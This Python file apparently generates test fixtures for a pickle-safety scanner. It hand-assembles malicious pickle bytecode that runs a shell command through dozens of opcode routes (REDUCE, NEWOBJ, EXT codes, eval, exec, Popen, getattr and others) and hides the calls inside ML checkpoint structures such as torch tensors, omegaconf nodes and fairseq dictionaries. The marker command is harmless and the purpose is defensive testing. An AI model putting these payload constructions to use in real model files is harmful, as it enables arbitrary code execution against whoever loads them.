"""Pickles that ask for something to be run, one for each way a pickle has of asking."""

from collections.abc import Iterator

from forged import dictionary, made, name, program, text, tuple_of

COMMAND = "echo run > {marker}"


def calls(command: str) -> dict[str, bytes]:
    """Instructions that leave the result of `os.system(command)` on the stack, by what they use."""
    system, args = name("posix", "system"), tuple_of(text(command))
    return {
        "REDUCE": system + args + b"R",
        "REDUCE of os": name("os", "system") + args + b"R",
        "STACK_GLOBAL": text("posix") + text("system") + b"\x93" + args + b"R",
        "NEWOBJ": system + args + b"\x81",
        "NEWOBJ_EX": system + args + b"}\x92",
        "NEWOBJ_EX with keywords": system + b")" + dictionary(command=text(command)) + b"\x92",
        "OBJ": b"(" + system + text(command) + b"o",
        "INST": b"(" + text(command) + b"iposix\nsystem\n",
        "BUILD of an attribute": made(name("argparse", "Namespace"))
        + dictionary(__setstate__=system)
        + b"b"
        + text(command)
        + b"b",
        "EXT1": b"\x82\x01" + args + b"R",
        "EXT2": b"\x83\x01\x00" + args + b"R",
        "EXT4": b"\x84\x01\x00\x00\x00" + args + b"R",
        "EXT1 in OBJ": b"(\x82\x01" + text(command) + b"o",
        "EXT4 of a registered number": b"\x84\x7f\x00\x00\x00" + args + b"\x81",
        "BINPERSID of a call": tuple_of(text("storage"), system, text(command), text("cpu"), b"K\x01") + b"Q",
        "BUILD of a setstate": system + args + b"R" + tuple_of(b"N", dictionary(x=text(command))) + b"b",
        "REDUCE of a REDUCE": made(
            made(name("builtins", "getattr"), name("posix", "system"), text("__call__"))
        ),
        "NEXT_BUFFER": b"\x97" + system + args + b"R",
        "a class of a class": made(name("builtins", "type"), text("x"), b")", b"}"),
        "PERSID": b"Pposix.system\n" + args + b"R",
        "eval": made(name("builtins", "eval"), text(f"__import__('os').system({command!r})")),
        "exec": made(name("__builtin__", "exec"), text(f"import os; os.system({command!r})")),
        "getattr": made(made(name("builtins", "getattr"), name("os", "path"), text("os")), text(command)),
        "import": made(name("builtins", "__import__"), text("os")),
        "importlib": made(name("importlib", "import_module"), text("os")),
        "Popen": made(name("subprocess", "Popen"), text(command)),
        "partial": made(made(name("functools", "partial"), system, text(command))),
        "methodcaller": made(name("operator", "methodcaller"), text("system"), text(command)),
        "map": made(name("builtins", "list"), made(name("builtins", "map"), system, tuple_of(text(command)))),
        "torch.load": made(name("torch", "load"), text("/dev/stdin")),
        "torch by a path": made(name("torch.serialization", "os.system"), text(command)),
        "numpy": made(name("numpy.testing._private.utils", "runstring"), text("import os"), b"}"),
        "a default factory": made(name("collections", "defaultdict"), system) + b"K\x01K\x02s",
        "pickle": made(name("pickle", "loads"), b"C\x01."),
        "a class's constructor": made(name("ctypes", "CDLL"), text("libc.so.6")),
        "a call of what a call gave": made(made(name("argparse", "Namespace")), text(command)),
        "a call of text": made(text("os.system"), text(command)),
        "a call of a tensor's builder's result": made(
            made(name("collections", "OrderedDict")), text(command)
        ),
        "the name alone": system,
        "reconstruct": made(name("copyreg", "_reconstructor"), system, name("builtins", "object"), b"N"),
        "reconstruct of nothing": made(name("copyreg", "__newobj__"), system, text(command)),
    }


def places(call: bytes) -> dict[str, bytes]:
    """Whole pickles that hold a call, by where."""
    namespace, ordered = name("argparse", "Namespace"), name("collections", "OrderedDict")
    node = made(name("omegaconf.nodes", "AnyNode"))
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    return {
        "alone": program(call),
        "the model": program(dictionary(model=call)),
        "a Namespace's argument": program(made(namespace, call)),
        "a Namespace's state": program(dictionary(args=made(namespace) + dictionary(arch=call) + b"b")),
        "a state that is the call": program(made(namespace) + call + b"b"),
        "an omegaconf node": program(dictionary(cfg=node + dictionary(_val=call) + b"b")),
        "an omegaconf container": program(
            dictionary(
                cfg=made(name("omegaconf.dictconfig", "DictConfig"))
                + dictionary(_content=dictionary(model=node + dictionary(_val=call) + b"b"))
                + b"b"
            )
        ),
        "the slots of a state": program(made(namespace) + tuple_of(b"N", dictionary(arch=call)) + b"b"),
        "a dictionary of fairseq's": program(
            dictionary(
                task_state=dictionary(
                    target_dictionary=made(
                        name("copyreg", "_reconstructor"),
                        name("fairseq.data.dictionary", "Dictionary"),
                        name("builtins", "object"),
                        b"N",
                    )
                    + dictionary(symbols=call)
                    + b"b"
                )
            )
        ),
        "a numpy array": program(
            made(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b")", b"C\x01b")
            + tuple_of(b"K\x01", b")", made(name("numpy", "dtype"), call), b"\x89", b"C\x01x")
            + b"b"
        ),
        "a frozen set": program(b"(" + call + b"\x91"),
        "a list that is thrown away": program(b"](" + call + b"e0N"),
        "behind marks": program(b"((((" + call + b"1111N"),
        "an ordered dictionary": program(made(ordered, b"](" + tuple_of(text("a"), call) + b"e")),
        "a key": program(b"}" + call + b"K\x01s"),
        "a set": program(b"\x8f(" + call + b"\x90"),
        "a tensor's hooks": program(made(rebuild, b"N", b"K\x00", b")", b")", b"\x89", call)),
        "a storage": program(tuple_of(text("storage"), call, text("0"), text("cpu"), b"K\x01") + b"Q"),
        "thrown away": program(call + b"0" + b"N"),
        "the memo": program(call + b"q\x01" + b"0" + b"h\x01"),
    }


def hostile_pickles(command: str) -> Iterator[tuple[str, bytes]]:
    """Every call alone, and one call in every place."""
    every_call = calls(command)
    for of, call in every_call.items():
        yield of, places(call)["the model"]
    for place, whole in places(every_call["REDUCE"]).items():
        yield f"in {place}", whole
